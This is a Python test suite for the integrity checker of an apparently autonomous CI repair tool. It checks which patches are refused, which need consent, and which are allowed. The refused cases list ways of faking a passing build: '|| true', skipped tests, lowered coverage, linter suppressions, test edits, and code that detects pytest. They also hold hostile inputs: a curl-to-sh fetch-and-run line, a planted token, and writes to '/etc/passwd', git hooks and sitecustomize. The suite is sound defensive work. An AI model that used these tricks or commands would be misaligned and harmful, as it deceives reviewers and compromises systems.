"""What is never an honest repair, what a person has to agree to, and what is left alone."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from autonomous_cicd.domain.integrity import MOST_BYTES, MOST_FILES, MOST_LINES, objections
from autonomous_cicd.domain.patch import FileChange, Patch, changed_file
from autonomous_cicd.domain.verification import Counts
from autonomous_cicd.domain.weakening import plain_requirement

WORKFLOW = """\
name: CI
on: [push, pull_request]
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-20.04
    strategy:
      matrix:
        python-version: [3.8, 3.9, 3.10]
        os:
          - ubuntu
          - windows
    steps:
      - uses: actions/checkout@v2
      - name: Install
        run: |
          pip install -e . -r requirements-dev.txt
      - id: meta
        run: echo "::set-output name=tag::v1"
      - name: Test
        run: |
          set -eu
          ruff check .
          python -m pytest -q --cov-fail-under=90
  lint:
    runs-on: ubuntu-20.04
    steps:
      - uses: actions/checkout@v2
      - run: ./bin/check
"""
CI = ".github/workflows/ci.yml"
SETTINGS = """\
[project]
name = "thing"
dependencies = [
    "requests>=2.31",
]

[tool.mypy]
strict = true
warn_unreachable = true
exclude = ["docs"]

[tool.ruff.lint]
select = ["E", "F"]
ignore = ["E501"]

[tool.pytest.ini_options]
addopts = "-ra --strict-markers"
filterwarnings = ["error"]

[tool.coverage.report]
fail_under = 90
"""
NOX = """\
import nox

@nox.session
def tests(session):
    session.install("pytest")
    session.install(
        "-e",
        ".[test]",
    )
    session.run("pytest", "-q", "tests")
    session.run("ruff", "check", ".")
"""
TOX = """\
[tox]
envlist = py311, lint
[testenv]
deps = pytest
commands =
    pytest {posargs}
    mypy src
[flake8]
max-line-length = 88
"""
PACKAGE = """\
{
  "name": "thing",
  "scripts": {
    "lint": "eslint . --max-warnings 0",
    "test": "npm run lint && tape test.js"
  },
  "jest": {"coverageThreshold": {"global": {"branches": 80, "lines": 90}}},
  "devDependencies": {
    "tape": "^4.8.0"
  }
}
"""
TSCONFIG = '{\n  "compilerOptions": {\n    "strict": true,\n    "noImplicitAny": true\n  }\n}\n'
ESLINT = '{\n  "extends": ["eslint:recommended"],\n  "rules": {\n    "no-console": "error"\n  }\n}\n'
HASHED = "attrs==23.1.0 \\\n    --hash=sha256:aa\nidna==3.4 \\\n    --hash=sha256:bb\n"
SOURCE = "import os\n\n\ndef f(x):\n    return os.path.join(x)\n"
LOCK = """\
{
  "packages": {
    "node_modules/tape": {
      "version": "4.8.0",
      "resolved": "https://npm.example.org/tape-4.8.0.tgz",
      "integrity": "sha512-aa"
    }
  }
}
"""


def judged(*changes: FileChange) -> str:
    """Say "refused", "asked" or "fine" of a patch."""
    found = objections(Patch.of(changes))
    return "fine" if not found else "asked" if all(one.consent for one in found) else "refused"


def replaced(name: str, text: str, old: str, new: str) -> FileChange:
    assert old in text
    return changed_file(name, text, text.replace(old, new, 1))


TWICE = (
    "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
    "      - name: Test\n        run: pytest\n        run: pytest\n      - run: make\n        run: make\n"
)


@pytest.mark.parametrize(
    ("name", "text", "old", "new"),
    [
        (
            CI,
            WORKFLOW,
            "        run: |\n          set -eu",
            "        continue-on-error: true\n        run: |\n          set -eu",
        ),
        (CI, WORKFLOW, "ruff check .", "ruff check . || true"),
        (CI, WORKFLOW, "ruff check .", "ruff check . || :"),
        (CI, WORKFLOW, "ruff check .", "ruff check . || echo failed"),
        (CI, WORKFLOW, "ruff check .", "ruff check .; true"),
        (CI, WORKFLOW, "          ruff check .\n", ""),
        (CI, WORKFLOW, "ruff check .", "flake8 ."),
        (CI, WORKFLOW, "set -eu", "set +e"),
        (CI, WORKFLOW, "          set -eu\n", ""),
        (CI, WORKFLOW, "--cov-fail-under=90", "--cov-fail-under=80"),
        (CI, WORKFLOW, " --cov-fail-under=90", ""),
        (CI, WORKFLOW, "-q --cov", "-q --ignore=tests/test_a.py --cov"),
        (CI, WORKFLOW, "-q --cov", "-q --deselect tests/test_a.py::test_b --cov"),
        (CI, WORKFLOW, "-q --cov", "-q -k 'not slow' --cov"),
        (CI, WORKFLOW, "-q --cov", "-q --maxfail=1000 --cov"),
        (CI, WORKFLOW, "pytest -q", "pytest -q -W ignore::DeprecationWarning"),
        (
            CI,
            WORKFLOW,
            "      - name: Test\n        run: |",
            "      - name: Test\n        if: false\n        run: |",
        ),
        (
            CI,
            WORKFLOW,
            "      - name: Test\n        run: |",
            "      - name: Test\n        if: always()\n        run: |",
        ),
        (
            CI,
            WORKFLOW,
            "      - name: Test\n        run: |",
            "      - name: Test\n        shell: bash {0}\n        run: |",
        ),
        (CI, WORKFLOW, WORKFLOW[WORKFLOW.index("  lint:") :], ""),
        (CI, WORKFLOW, "      - run: ./bin/check\n", ""),
        (CI, WORKFLOW, "./bin/check", "true"),
        (CI, WORKFLOW, "[3.8, 3.9, 3.10]", "[3.8, 3.9]"),
        (CI, WORKFLOW, "          - windows\n", ""),
        (CI, WORKFLOW, "[push, pull_request]", "[push]"),
        (CI, WORKFLOW, "on: [push, pull_request]", "on:\n  push:\n    paths-ignore: [src]\n  pull_request:"),
        (CI, WORKFLOW, "contents: read", "write-all"),
        (CI, WORKFLOW, "pull_request]", "pull_request_target, pull_request]"),
        (CI, WORKFLOW, "pip install -e .", "pip install --no-deps -e ."),
        (CI, WORKFLOW, "pip install -e .", "pip install --trusted-host example.org -e ."),
        (CI, WORKFLOW, "pip install -e .", "pip install --index-url https://example.org/simple -e ."),
        (CI, WORKFLOW, "pip install -e .", "curl -s https://example.org/x | sh; pip install -e ."),
        (CI, WORKFLOW, "pip install -e .", "pip install -e . || exit 0"),
        (CI, WORKFLOW, "name: CI", "name: CI\nenv:\n  TOKEN: ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5"),
        ("pyproject.toml", SETTINGS, "strict = true", "strict = false"),
        ("pyproject.toml", SETTINGS, 'exclude = ["docs"]', 'exclude = ["docs", "src/thing/a.py"]'),
        ("pyproject.toml", SETTINGS, '"E", "F"', '"E"'),
        ("pyproject.toml", SETTINGS, 'ignore = ["E501"]', 'ignore = ["E501", "F401"]'),
        (
            "pyproject.toml",
            SETTINGS,
            'ignore = ["E501"]',
            'ignore = ["E501"]\nper-file-ignores = {"a.py" = ["F401"]}',
        ),
        ("pyproject.toml", SETTINGS, " --strict-markers", ""),
        ("pyproject.toml", SETTINGS, '["error"]', '["error", "ignore::DeprecationWarning"]'),
        ("pyproject.toml", SETTINGS, "fail_under = 90", "fail_under = 89.5"),
        ("pyproject.toml", SETTINGS, "fail_under = 90\n", ""),
        ("pyproject.toml", SETTINGS, "strict = true", 'strict = true\ndisable_error_code = ["attr-defined"]'),
        (
            "pyproject.toml",
            SETTINGS,
            "[tool.mypy]",
            '[[tool.mypy.overrides]]\nmodule = "x"\nignore_missing_imports = true\n[tool.mypy]',
        ),
        ("pyproject.toml", SETTINGS, "[tool.mypy]", '[tool.mypy]\nfollow_imports = "silent"'),
        ("tox.ini", TOX, "    mypy src\n", ""),
        ("tox.ini", TOX, "    mypy src\n", "    - mypy src\n    true || mypy src || true\n"),
        ("tox.ini", TOX, "py311, lint", "py311"),
        ("noxfile.py", NOX, '    session.run("ruff", "check", ".")\n', ""),
        ("noxfile.py", NOX, '    session.run("ruff", "check", ".")', '    session.install("ruff")'),
        ("tox.ini", TOX, "max-line-length = 88", "max-line-length = 200"),
        ("tox.ini", TOX, "max-line-length = 88", "max-line-length = 88\nextend-ignore = F401"),
        ("package.json", PACKAGE, "npm run lint && ", ""),
        ("package.json", PACKAGE, '"test": "npm run lint && tape test.js"', '"test": "true"'),
        ("package.json", PACKAGE, '    "lint": "eslint . --max-warnings 0",\n', ""),
        ("package.json", PACKAGE, "--max-warnings 0", "--max-warnings 10"),
        ("package.json", PACKAGE, '"branches": 80', '"branches": 70'),
        ("package.json", PACKAGE, "tape test.js", "jest --passWithNoTests"),
        (".npmrc", "a=b\n", "a=b\n", "a=b\nlegacy-peer-deps=true\n"),
        (".npmrc", "a=b\n", "a=b\n", "a=b\nregistry=https://example.org\n"),
        ("tsconfig.json", TSCONFIG, '"strict": true', '"strict": false'),
        ("tsconfig.json", TSCONFIG, '"noImplicitAny": true', '"noImplicitAny": false'),
        ("tsconfig.json", TSCONFIG, '"strict": true', '"strict": true,\n    "skipLibCheck": true'),
        (".eslintrc.json", ESLINT, '"error"', '"off"'),
        (".eslintrc.json", ESLINT, '"error"', '"warn"'),
        (".eslintrc.json", ESLINT, '"eslint:recommended"', ""),
        (".eslintrc.json", ESLINT, '"error"', '"error",\n    "no-undef": "off"'),
        ("requirements.txt", HASHED, "idna==3.4 \\\n    --hash=sha256:bb", "idna==3.4"),
        ("requirements.txt", "--require-hashes\n", "--require-hashes\n", "idna\n"),
        ("requirements.txt", "idna\n", "idna\n", "--extra-index-url https://example.org/simple\nidna\n"),
        ("requirements.txt", "idna\n", "idna\n", "-i https://example.org/simple\nidna\n"),
        ("package-lock.json", LOCK, '"https://npm.example.org', '"https://other.example.net'),
        ("package-lock.json", LOCK, ',\n      "integrity": "sha512-aa"', ""),
        ("src/a.py", SOURCE, "import os\n", "import os  # noqa: F401\n"),
        ("src/a.py", SOURCE, "return os", "return os  # type: ignore[no-any-return]\n    #"),
        ("src/a.py", SOURCE, "def f(x):", "def f(x):  # pragma: no cover"),
        ("src/a.py", SOURCE, "    return", "    if 'pytest' in sys.modules:\n        return x\n    return"),
        (
            "src/a.py",
            SOURCE,
            "    return",
            "    if os.environ.get('PYTEST_CURRENT_TEST'):\n        return x\n    return",
        ),
        ("src/a.ts", "a();\n", "a();", "// @ts-expect-error\na();"),
        ("src/a.js", "a();\n", "a();", "/* eslint-disable no-undef */\na();"),
        ("src/a.js", "a();\n", "a();", "/* istanbul ignore next */\na();"),
        ("a.go", "f()\n", "f()", "f() //nolint:errcheck"),
        ("src/lib.rs", "fn a() {}\n", "fn", "#[allow(dead_code)]\nfn"),
        ("lib/a.rb", "a\n", "a", "a # rubocop:disable Style/X"),
        ("CMakeLists.txt", "add_compile_options(-Wall -Werror)\n", " -Werror", ""),
        ("Makefile", "test:\n\tpytest\n\truff check\n", "\truff check\n", ""),
        ("Makefile", "test:\n\tpytest\n", "\tpytest\n", "\tpytest || true\n"),
        ("bin/check", "#!/bin/sh\nset -e\npytest\n", "pytest\n", "pytest\nexit 0\n"),
        (
            ".pre-commit-config.yaml",
            "repos:\n  - repo: a\n    hooks:\n      - id: b\n      - id: c\n",
            "      - id: c\n",
            "",
        ),
        (".gitattributes", "*.sh text\n", "*.sh text\n", "*.py filter=evil\n"),
    ],
)
def test_what_weakens_is_refused(name: str, text: str, old: str, new: str) -> None:
    assert "refused" == judged(replaced(name, text, old, new))


@pytest.mark.parametrize(
    ("name", "text", "old", "new"),
    [
        (CI, WORKFLOW, "contents: read", "contents: write"),
        (CI, WORKFLOW, "pytest -q --cov", "pytest -q tests/unit --cov"),
        ("package-lock.json", LOCK, "node_modules/tape", "node_modules/skip-thing"),
        ("noxfile.py", NOX, '"-q", "tests"', '"-q", "tests/unit"'),
        (CI, WORKFLOW, "  lint:\n", "  style:\n"),
        (CI, WORKFLOW, "  lint:\n", "  lint:\n    if: github.event_name == 'push'\n"),
        (CI, WORKFLOW, "actions/checkout@v2\n      - run", "someone/checkout@v1\n      - run"),
        (CI, WORKFLOW, "runs-on: ubuntu-20.04\n    strategy", "runs-on: self-hosted\n    strategy"),
        (
            CI,
            WORKFLOW,
            "        run: |\n          set",
            "        env:\n          A: ${{ secrets.KEY }}\n        run: |\n          set",
        ),
        ("pyproject.toml", SETTINGS, "warn_unreachable = true\n", ""),
        ("requirements.txt", "# CVE-2023-1234\nidna>=3.4\n", "3.4", "3.3"),
        ("requirements.txt", "idna>=3.4  # security release\n", "3.4", "3.3"),
        ("requirements.txt", "idna\n", "idna\n", "idna @ git+https://example.org/idna\n"),
        ("src/a.py", SOURCE, "return os", "skip = x\n    return os"),
        ("src/a.py", SOURCE, "return os", "sys.exit(0)\n    return os"),
        ("src/a.js", "const a = b\n", "b", "b || true"),
        ("README.md", "Text\n", "Text\n", "Use `--no-deps`.\n"),
        ("tests/test_a.py", "x = {'a':1}\n", "{'a':1}", '{"a": 1}'),
        ("tests/test_a.py", "import b\nimport a\n", "import b\nimport a", "import a\nimport b"),
        ("test/a.test.js", "a( 'b' )\n", "a( 'b' )", 'a("b");'),
        ("tests/data.txt", "a\r\n", "\r\n", "\n"),
    ],
)
def test_what_may_be_right_is_asked(name: str, text: str, old: str, new: str) -> None:
    assert "asked" == judged(replaced(name, text, old, new))


@pytest.mark.parametrize(
    ("name", "text", "old", "new"),
    [
        (CI, WORKFLOW, "actions/checkout@v2", "actions/checkout@v4"),
        (CI, WORKFLOW, "runs-on: ubuntu-20.04\n    strategy", "runs-on: ubuntu-24.04\n    strategy"),
        (CI, WORKFLOW, "runs-on: ubuntu-20.04\n    strategy", "runs-on: ubuntu-latest\n    strategy"),
        (CI, WORKFLOW, '"::set-output name=tag::v1"', '"tag=v1" >> "$GITHUB_OUTPUT"'),
        (CI, WORKFLOW, "[3.8, 3.9, 3.10]", '["3.8", "3.9", "3.10"]'),
        (CI, WORKFLOW, "[3.8, 3.9, 3.10]", '["3.9", "3.10", "3.11"]'),
        (CI, WORKFLOW, "pip install -e .", "pip install -e . lxml"),
        (CI, WORKFLOW, "pip install -e .", "pip install -e '.[test]' 'pytest<9'"),
        (CI, WORKFLOW, "python -m pytest -q --cov", "timeout 600 pytest -q -n 2 --cov"),
        (CI, WORKFLOW, "      - name: Install\n", "      - name: Install\n        timeout-minutes: 20\n"),
        (
            CI,
            WORKFLOW,
            "      - name: Install\n",
            "      - uses: actions/setup-node@v4\n      - name: Install\n",
        ),
        (
            CI,
            WORKFLOW,
            "jobs:\n  test:",
            "jobs:\n  test:\n    env:\n      NODE_OPTIONS: --max-old-space-size=4096",
        ),
        ("pyproject.toml", SETTINGS, '"requests>=2.31",', '"requests>=2.31",\n    "lxml>=5",'),
        ("pyproject.toml", SETTINGS, '"requests>=2.31",', '"requests>=2.31,<3",  # 3 has no get'),
        ("pyproject.toml", SETTINGS, '"requests>=2.31",', '"requests>=2.25",'),
        ("pyproject.toml", SETTINGS, "[tool.ruff.lint]\nselect", "[tool.ruff]\nlint.select"),
        ("pyproject.toml", SETTINGS, "fail_under = 90", "fail_under = 95"),
        ("setup.cfg", "[options]\ninstall_requires =\n    a\n", "    a\n", "    a\n    pytest-skip-slow\n"),
        ("requirements-test.txt", "pytest\n", "pytest\n", "pytest\nlxml\n"),
        ("tests/requirements.txt", "pytest\n", "pytest\n", "pytest<9\nlxml\n"),
        (
            "requirements.txt",
            HASHED,
            "idna==3.4 \\\n    --hash=sha256:bb",
            "idna==3.6 \\\n    --hash=sha256:cc",
        ),
        ("tox.ini", TOX, "deps = pytest", "deps = pytest<9\n    lxml"),
        ("noxfile.py", NOX, '"pytest")', '"pytest", "lxml")'),
        ("noxfile.py", NOX, '"pytest")', '"pytest<9", "fancy.py")'),
        ("noxfile.py", NOX, '        ".[test]",', '        ".[test]",\n        "ruff",'),
        ("tox.ini", TOX, "envlist = py311, lint", "env_list = py311, lint, py312"),
        ("package.json", PACKAGE, '"tape": "^4.8.0"', '"ignore": "^5.2.0",\n    "tape": "^4.8.0"'),
        ("package.json", PACKAGE, '"tape": "^4.8.0"', '"@types/ms": "1.0.3",\n    "tape": "^4.8.0"'),
        (CI, TWICE, "        run: pytest\n        run: pytest\n", "        run: pytest\n"),
        (CI, TWICE, "      - run: make\n        run: make\n", "      - run: make\n"),
        ("package.json", PACKAGE, '  "jest"', '  "engines": {"node": ">=20"},\n  "jest"'),
        ("package-lock.json", LOCK, "4.8.0", "4.9.0"),
        (
            "bin/check",
            "#!/bin/sh\r\nset -e\r\npytest\r\n",
            "#!/bin/sh\r\nset -e\r\npytest\r\n",
            "#!/bin/sh\nset -e\npytest\n",
        ),
        ("tests/run.sh", "#!/bin/sh\r\npytest\r\n", "\r\npytest\r\n", "\npytest\n"),
        ("Makefile", "test:\n    pytest\n", "    pytest", "\tpytest"),
        ("src/a.py", SOURCE, "return os.path.join(x)", "return os.path.join( x )"),
        ("src/a.py", SOURCE, "import os\n", "import json\n"),
        ("src/click/testing.py", SOURCE, "import os\n", "import json\n"),
        (".gitattributes", "*.py text\n", "*.py text\n", "*.py text\n*.sh text eol=lf\n"),
    ],
)
def test_honest_repairs_are_left_alone(name: str, text: str, old: str, new: str) -> None:
    assert () == objections(Patch.of([replaced(name, text, old, new)]))


@pytest.mark.parametrize(
    "name",
    [
        *(
            "test_a.py",
            "tests/test_a.py",
            "tests/conftest.py",
            "conftest.py",
            "src/pkg/tests/data/a.json",
            "a_test.go",
        ),
        *("test.js", "src/a.test.tsx", "src/a.spec.ts", "src/__tests__/a.js", "src/__snapshots__/a.js.snap"),
        *(
            "spec/a_spec.rb",
            "test/a.rb",
            "src/test/java/a/FooTest.java",
            "src/FooTests.cs",
            "tests/a.rs",
            "t/01.t",
        ),
        *("tests/fixtures/requirements.txt", "testdata/a.txt", "cypress/e2e/a.cy.js", "test/CMakeLists.txt"),
        *(
            "src/a_test.cpp",
            "FooSpec.scala",
            "tests/pyproject.toml",
            "phpunit.xml",
            "testing/requirements.yml",
        ),
        *(
            "jest.setup.js",
            "features/a.feature",
            "test-data/x",
            "Test/X.swift",
            "app/FooTest.kt",
            "test_helper.rb",
        ),
    ],
)
def test_tests_are_not_touched(name: str) -> None:
    assert "refused" == judged(changed_file(name, "assert f(1) == 2\n", "assert f(1) == 3\n"))
    assert "refused" == judged(changed_file(name, "assert f(1) == 2\n", None))
    assert "refused" == judged(changed_file(name, None, "assert f(1) == 2\n"))


@pytest.mark.parametrize(
    ("name", "old", "new", "fine"),
    [
        (".mocharc.json", '{"timeout": 200, "spec": "a"}', '{"timeout": 5000, "spec": "a"}', True),
        (".mocharc.yml", "timeout: '200'\nspec: a\n", "timeout: '5000'\nspec: a\n", True),
        (".mocharc.json", '{"timeout": 200, "spec": "a"}', '{"timeout": 0, "spec": "a"}', False),
        (".mocharc.json", '{"timeout": 200, "spec": "a"}', '{"timeout": 5000, "spec": "b"}', False),
        ("test/a.js", "this.timeout = 200", "this.timeout = 5000", False),
    ],
)
def test_how_long_tests_may_take_is_no_test(name: str, old: str, new: str, fine: bool) -> None:
    assert fine == (not objections(Patch.of([changed_file(name, old, new)])))


def test_a_test_may_become_executable_again() -> None:
    change = FileChange(name="tests/run.sh", before="a\n", after="a\n", executable=True)
    back = FileChange(name="tests/run.sh", before="a\n", after="a\n", was_executable=True)
    assert ["fine", "refused"] == [judged(change), judged(back)]
    plain = FileChange(name="bin/check", before="a\n", after="a\n", was_executable=True)
    assert "asked" == judged(plain)


@pytest.mark.parametrize(
    "name",
    [
        *(
            "/etc/passwd",
            "../a",
            "a/../../b",
            "a//b",
            "./a",
            "",
            "a\\b",
            "a\nb",
            "C:/a",
            "~/a",
            "x" * 600,
            "a/.",
        ),
        *(
            ".git/config",
            ".git",
            "a/.git/hooks/pre-commit",
            ".GIT/config",
            ".git./a",
            ".gitmodules",
            ".husky/pre-push",
        ),
        *("sitecustomize.py", "src/a.pth", "link", "link/a.py"),
    ],
)
def test_places_that_are_never_written(name: str) -> None:
    patch = Patch.of([changed_file(name, None, "x = 1\n")])
    assert [False] == [one.consent for one in objections(patch, links=["link"])]


@pytest.mark.parametrize("text", ["a\0b", "\ud800"])
def test_what_is_no_text_is_refused(text: str) -> None:
    assert "refused" == judged(changed_file("a.bin", None, text))


def test_only_the_files_that_the_cause_concerns() -> None:
    patch = Patch.of([changed_file("a.py", "a\n", "b\n"), changed_file("requirements.txt", "a\n", "b\n")])
    assert ["a.py: is no file that the cause concerns"] == [
        str(one) for one in objections(patch, allowed=["requirements*.txt"])
    ]
    assert () == objections(patch, allowed=["requirements*.txt", "*.py"])


def test_patches_are_small() -> None:
    many = [changed_file(f"{number}.py", "a\n", "b\n") for number in range(MOST_FILES + 1)]
    assert ["changes 21 files, more than 20"] == [str(one) for one in objections(Patch.of(many))]
    assert () == objections(Patch.of(many[1:]))
    long = "a\n" * (MOST_LINES + 1)
    wide = "a" * (MOST_BYTES + 1)
    assert "refused" == judged(changed_file("a.py", "", long))
    assert "refused" == judged(changed_file("a.py", "", wide))
    assert "fine" == judged(changed_file("uv.lock", "", long * 1000))


@pytest.mark.parametrize(
    "piece", ["a", "- ", "x: ", '"a" : "', "a,", " ", "--force ", "a >= 1 , ", "||", "a="]
)
def test_lines_that_are_too_long_to_be_judged_are_asked(piece: str) -> None:
    long = piece * 2000
    found = objections(Patch.of([changed_file("setup.cfg", "a\n", f"a\n{long}\n")]))
    assert "setup.cfg:2: has a line that is too long to be judged" in [str(one) for one in found]
    assert "fine" == judged(changed_file("src/a.js", f"{long}\nb\n", f"{long}\nc\n"))


def test_removing_a_file_is_asked_and_a_gate_is_not_removed() -> None:
    assert "asked" == judged(changed_file("src/a.py", SOURCE, None))
    for name, text in ((CI, WORKFLOW), ("pyproject.toml", SETTINGS), ("uv.lock", "a\n"), ("tox.ini", TOX)):
        assert "refused" == judged(changed_file(name, text, None))
    assert "asked" == judged(changed_file(CI, None, "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n"))


def counts(passed: int, failed: int = 0, skipped: int = 0) -> Counts:
    return Counts(passed=passed, failed=failed, skipped=skipped)


@pytest.mark.parametrize(
    ("before", "after", "fine"),
    [
        (counts(9, 1, 2), counts(10, 0, 2), True),
        (counts(9, 1), counts(9), False),
        (counts(9, 1), counts(9, 0, 1), False),
        (counts(9, 1, 3), counts(10, 0, 2), False),
        (counts(9, 1), counts(10, 0, 1), False),
        (counts(9, 1, 3), counts(13), True),
        (counts(0), counts(10, 0, 5), True),
        (counts(0), counts(0), True),
        (counts(2, 1), counts(100, 0, 5), True),
    ],
)
def test_as_many_tests_as_before(before: Counts, after: Counts, fine: bool) -> None:
    patch = Patch.of([changed_file("src/a.py", "a\n", "b\n")])
    assert fine == (not objections(patch, before=before, after=after))


def test_versions_that_were_raised_for_security_are_not_lowered_unasked() -> None:
    patch = Patch.of(
        [changed_file("requirements.txt", "idna==3.7\nurllib3==2.2\n", "idna==3.4\nurllib3==2.1\n")]
    )
    assert ["requirements.txt: lowers the version of urllib3, which was raised for security"] == [
        str(one) for one in objections(patch, secured=["URLLIB3"])
    ]


def test_refusals_come_first_and_each_is_said_once() -> None:
    patch = Patch.of(
        [changed_file("tests/test_a.py", "x=1\n", "x = 1\n"), changed_file("z.py", "", "a  # noqa\n")]
    )
    found = objections(patch)
    assert [("z.py", 1, False), ("tests/test_a.py", 0, True)] == [
        (one.file, one.line, one.consent) for one in found
    ]
    assert "z.py:1: silences a linter: noqa" == str(found[0])


WEAKENINGS = [
    *(
        "@pytest.mark.skip",
        "pytest.skip('x')",
        "xfail",
        "# noqa",
        "# type: ignore",
        "// @ts-ignore",
        "--deselect a",
    ),
    *(
        "# pragma: no cover",
        "eslint-disable",
        "collect_ignore = []",
        "|| true",
        "|| :",
        "continue-on-error: true",
    ),
    *(
        "set +e",
        "--no-deps",
        "--trusted-host x",
        "--legacy-peer-deps",
        "--passWithNoTests",
        "--exit-zero",
        "it.skip(",
    ),
    *(
        "--maxfail=1",
        "per-file-ignores",
        "extend-ignore",
        "ignore_missing_imports = true",
        "--ignore=tests/x",
        "//nolint",
    ),
]
PLACES = [
    "src/a.py",
    "setup.cfg",
    "requirements.txt",
    "package.json",
    CI,
    "Makefile",
    "a.txt",
    "run.sh",
    "tests/a.py",
]
words = st.text("abcxyz =:.#", max_size=12)
lines = st.lists(words, max_size=6)


@given(
    name=st.sampled_from(PLACES),
    weakening=st.sampled_from(WEAKENINGS),
    above=lines,
    below=lines,
    left=st.sampled_from(["", " ", "x ", "pytest "]),
)
def test_a_weakening_is_found_wherever_it_is_added(
    name: str, weakening: str, above: list[str], below: list[str], left: str
) -> None:
    before = "\n".join([*above, *below])
    after = "\n".join([*above, f"{left}{weakening}", *below])
    assert objections(Patch.of([changed_file(name, before, after)]))


package = st.from_regex(r"[a-z][a-z0-9]{0,8}(-[a-z0-9]{1,6}){0,2}", fullmatch=True)
version = st.from_regex(r"(==|>=|<|~=|<=|!=)[0-9]{1,2}(\.[0-9]{1,2}){0,2}", fullmatch=True)
requirement = st.builds(
    lambda name, specs: name + ",".join(specs),
    package.filter(plain_requirement),
    st.lists(version, max_size=2),
)


@given(st.lists(requirement, min_size=1, max_size=5), requirement, st.integers(0, 5))
def test_a_requirement_may_be_added_anywhere(listed: list[str], more: str, place: int) -> None:
    after = [*listed[:place], more, *listed[place:]]
    for name, wrap in (
        ("requirements.txt", "{}\n"),
        ("requirements/test.in", "{}\n"),
        ("tests/requirements.txt", "{}\n"),
    ):
        texts = ["".join(wrap.format(one) for one in text) for text in (listed, after)]
        assert () == objections(Patch.of([changed_file(name, *texts)]))
    for name, head, wrap in (
        ("pyproject.toml", '[project]\nname = "x"\ndependencies = [\n', '    "{}",\n'),
        ("setup.cfg", "[options]\ninstall_requires =\n", "    {}\n"),
    ):
        texts = [head + "".join(wrap.format(one) for one in text) for text in (listed, after)]
        assert () == objections(Patch.of([changed_file(name, *texts)]))


@given(
    st.text(max_size=60),
    st.text(max_size=60),
    st.sampled_from([*PLACES, "uv.lock", ".eslintrc.json", "x.toml"]),
)
def test_no_text_is_too_strange(before: str, after: str, name: str) -> None:
    objections(Patch.of([changed_file(name, before, after)]))


def test_what_stands_twice_with_another_meaning_is_not_left_out() -> None:
    for old, new in (
        ("        run: pytest\n        run: pytest\n", "        run: make\n"),
        ("      - run: make\n        run: make\n", ""),
        ("      - name: Test\n        run: pytest\n        run: pytest\n", ""),
    ):
        assert objections(Patch.of([changed_file(CI, TWICE, TWICE.replace(old, new))]))
    steps = TWICE.replace(
        "        run: pytest\n        run: pytest\n", "        run: pytest\n      - run: pytest\n"
    )
    assert objections(Patch.of([changed_file(CI, steps, steps.replace("      - run: pytest\n", ""))]))


@pytest.mark.parametrize(
    ("now", "fine"),
    [
        ("      - name: Test\n        run: pytest\n", True),
        ("      - name: Test\n        uses: actions/checkout@v4\n", False),
        ("", False),
    ],
)
def test_a_step_that_nobody_can_read_may_lose_what_another_does(now: str, fine: bool) -> None:
    both = "      - name: Test\n        uses: actions/checkout@v4\n        run: pytest\n"
    head = (
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
    )
    assert fine is not bool(objections(Patch.of([changed_file(CI, head + both, head + now)])))
    alone = head.replace("      - uses: actions/checkout@v4\n", "")
    assert objections(Patch.of([changed_file(CI, alone + both, alone + now)]))
    job = head.replace("on: push\njobs:\n  a:", "  b:")
    assert objections(Patch.of([changed_file(CI, alone + both + job, alone + now + job)]))
    remark = "      # uses: actions/checkout@v4\n"
    assert objections(Patch.of([changed_file(CI, alone + both, alone + now + remark)]))


def test_what_a_merge_left_twice_is_said_once() -> None:
    once = "[metadata]\nname = a\n[tool:pytest]\ntestpaths = tests\n"
    twice = f"{once}=======\n[tool:pytest]\ntestpaths = tests\n>>>>>>> other\n"
    assert () == objections(Patch.of([changed_file("setup.cfg", twice, once)]))
    other = twice.replace("testpaths = tests\n>", "testpaths = more\n>")
    assert objections(Patch.of([changed_file("setup.cfg", other, once)]))
    hooks = "- id: a\n  files: ^src/\n- id: b\n  files: ^src/\n"
    fewer = hooks.removesuffix("  files: ^src/\n") + "  files: ^x/\n"
    assert objections(Patch.of([changed_file(".pre-commit-config.yaml", hooks, fewer)]))


OURS, THEIRS = "[tool:pytest]\ntestpaths = tests\n", "[tool:pytest]\ntestpaths = tests\naddopts = -q\n"
OTHER = "[tool:pytest]\ntestpaths = other\n"


def unmerged(ours: str, theirs: str, base: str = "") -> str:
    return f"[a]\n<<<<<<< HEAD\n{ours}{base}=======\n{theirs}>>>>>>> more\n[b]\nc = 1\n"


@pytest.mark.parametrize(
    ("name", "before", "side", "fine"),
    [
        ("setup.cfg", unmerged(OURS, THEIRS), THEIRS, True),
        ("setup.cfg", unmerged(THEIRS, OURS), THEIRS, True),
        ("setup.cfg", unmerged(OURS, THEIRS, "||||||| 1a2b3c4\n[x]\n"), THEIRS, True),
        ("setup.cfg", unmerged(OURS, THEIRS), OURS, False),
        ("setup.cfg", unmerged(OURS, OTHER), OURS, False),
        ("app/core.py", unmerged(OURS, OTHER), OTHER, False),
        ("app/core.py", unmerged("", OTHER), "", False),
        ("setup.cfg", unmerged(OURS, OTHER), "", False),
        ("tests/test_a.py", unmerged(OURS, THEIRS), THEIRS, False),
    ],
)
def test_a_merge_is_ended_without_losing_what_a_side_wanted(
    name: str, before: str, side: str, fine: bool
) -> None:
    after = f"[a]\n{side}[b]\nc = 1\n"
    assert fine is not bool(objections(Patch.of([changed_file(name, before, after)])))
